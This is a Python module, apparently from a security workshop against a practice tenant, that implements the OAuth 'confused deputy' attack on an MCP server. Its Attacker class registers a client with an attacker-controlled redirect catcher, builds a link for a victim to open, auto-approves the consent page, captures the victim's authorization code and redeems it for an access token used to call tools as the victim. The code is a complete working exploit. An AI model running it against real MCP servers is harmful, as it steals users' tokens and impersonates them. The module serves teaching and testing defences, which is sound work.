"""The confused deputy: an OAuth proxy is made to fetch a victim's token for an attacker's client.

Source: MCP security best practices, "Confused Deputy Problem"
(https://modelcontextprotocol.io/docs/2026-07-28/tutorials/security/security_best_practices).
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import re
import secrets
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode, urljoin

import httpx

from practice_tenant.client.browser import pages
from workshop.attacks.catcher import Catcher
from workshop.errors import WorkshopError

PATIENCE = 60.0


@dataclass(eq=False)
class AttackFailed(WorkshopError):
    """The attacker got nowhere."""

    step: str
    reason: str

    def __str__(self) -> str:
        return f"The attack failed at {self.step}: {self.reason}"


class Attacker:
    """Somebody with an MCP client of their own who wants to act as somebody else.

    They need no account: only the server's address, and a victim who opens a link.
    """

    def __init__(self, url: str, client_name: str = "Expense Helper") -> None:
        """Get ready; nothing is sent yet.

        Args:
            url: of the MCP server.
            client_name: what the client calls itself; anyone may choose any name.
        """
        self.url = url
        self.client_name = client_name
        self.catcher = Catcher()
        self.verifier = secrets.token_urlsafe(48)
        self._metadata: dict[str, Any] = {}
        self._client_id = ""

    def link(self) -> str:
        """Register a client and return the link that the victim is to open.

        Raises:
            AttackFailed: the server did not register the client.
        """
        with _browser() as http:
            scope = self._discover(http)
            request = {"client_name": self.client_name, "redirect_uris": [self.catcher.address]}
            answer = http.post(self._metadata["registration_endpoint"], json=request)
        if answer.status_code != 201:
            raise AttackFailed("registering a client", _said(answer))
        self._client_id = answer.json()["client_id"]
        challenge = base64.urlsafe_b64encode(hashlib.sha256(self.verifier.encode()).digest()).rstrip(b"=")
        parameters = {
            "response_type": "code",
            "client_id": self._client_id,
            "redirect_uri": self.catcher.address,
            "code_challenge": challenge.decode(),
            "code_challenge_method": "S256",
            "state": secrets.token_urlsafe(16),
            "resource": self.url,
        } | ({"scope": scope} if scope else {})
        return f"{self._metadata['authorization_endpoint']}?{urlencode(parameters)}"

    def link_behind_consent(self) -> str:
        """Answer the server's consent page in a browser of the attacker's own, and return the link that follows.

        Raises:
            AttackFailed: the server did not register the client, or showed no page that can be answered.
        """
        link = self.link()
        with _browser() as http:
            answer = http.get(link)
            if answer.is_redirect and answer.headers["location"].startswith(urljoin(self.url, "/")):
                answer = http.get(answer.headers["location"])
            page = pages.read(answer.text, of_tenant=False)
            if page.kind == "client-approval":
                form = page.forms[0]
                fields = dict(form.fields) | {"action": "approve"}
                answer = http.post(urljoin(str(answer.url), form.action), data=fields)
        if not answer.is_redirect:
            raise AttackFailed("answering the consent page", _said(answer))
        return str(answer.headers["location"])

    async def call_tool(self, name: str, seconds: float = PATIENCE, **arguments: Any) -> Any:
        """Wait for the victim's code, swap it for a token and call a tool with it.

        Args:
            name: of the tool.
            seconds: how long to wait for the code.

        Raises:
            AttackFailed: no code came, or it was worth nothing.
        """
        from fastmcp import Client

        token = await asyncio.to_thread(self._redeem, seconds)
        async with Client(self.url, auth=token) as client:
            return (await client.call_tool(name, arguments)).data

    def close(self) -> None:
        """Stop listening for the victim's browser."""
        self.catcher.close()

    def _discover(self, http: httpx.Client) -> str:
        """Read who signs people in for this server, as any client does, and return the scope it wants."""
        challenge = http.post(self.url).headers.get("www-authenticate", "")
        found = dict(re.findall(r'(\w+)="([^"]*)"', challenge))
        if "resource_metadata" not in found:
            raise AttackFailed("reading where to sign in", "the server says nothing of it")
        resource = http.get(found["resource_metadata"]).json()
        issuer = resource["authorization_servers"][0]
        self._metadata = http.get(urljoin(issuer, "/.well-known/oauth-authorization-server")).json()
        return " ".join(resource.get("scopes_supported", []))

    def _redeem(self, seconds: float) -> str:
        brought = self.catcher.wait(seconds)
        if "code" not in brought:
            told = brought.get("error")
            raise AttackFailed("waiting for the code", f"the browser brought {told}" if told else "no browser came")
        form = {
            "grant_type": "authorization_code",
            "code": brought["code"],
            "redirect_uri": self.catcher.address,
            "client_id": self._client_id,
            "code_verifier": self.verifier,
            "resource": self.url,
        }
        with _browser() as http:
            answer = http.post(self._metadata["token_endpoint"], data=form)
        if answer.status_code != 200:
            raise AttackFailed("swapping the code for a token", _said(answer))
        return str(answer.json()["access_token"])


def _browser() -> httpx.Client:
    return httpx.Client(trust_env=False, timeout=PATIENCE)


def _said(answer: httpx.Response) -> str:
    if "json" not in answer.headers.get("content-type", ""):
        return f"the server answered {answer.status_code}"
    body = answer.json()
    return f"{body.get('error')}: {body.get('error_description', '')}".rstrip(": ")
